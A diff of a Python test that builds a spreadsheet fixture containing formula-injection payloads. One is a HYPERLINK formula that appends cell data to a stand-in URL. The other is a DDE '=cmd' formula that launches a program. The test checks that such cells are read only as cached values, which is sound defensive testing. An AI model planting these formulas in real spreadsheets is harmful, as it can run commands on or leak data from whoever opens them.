@@ -84,7 +84,7 @@ def test_formula_cells_count_as_what_they_came_to(tmp_path: Path) -> None:
         sheet.write_row(0, 0, COLUMNS)
         sheet.write_row(1, 0, cells())
         sheet.write_formula(1, 1, '=HYPERLINK("http://example.invalid/?"&A2)', value="click")
-        sheet.write_formula(1, 2, "=cmd|' /C calc'!A0", value="#REF!")
+        sheet.write_formula(1, 2, "=cmd|' /C calc'!A0", value="0")
     frame = read_batch(path)
     assert frame["tin"].to_list() == ["click"]
     short = screen(frame, PACK, today=PACK.in_force_from).findings["deficiencies"].to_list()[0]
